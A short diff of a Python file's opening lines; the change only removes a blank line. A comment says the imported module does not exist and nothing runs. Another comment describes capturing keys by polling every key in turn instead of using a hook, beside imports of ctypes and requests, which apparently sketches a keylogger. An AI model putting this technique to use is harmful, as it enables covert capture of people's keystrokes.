@@ -1,5 +1,4 @@
 import inert_sample  # there is no such module: nothing below ever runs
-
 # trick: no hook, every key is asked for in turn
 import ctypes
 import requests
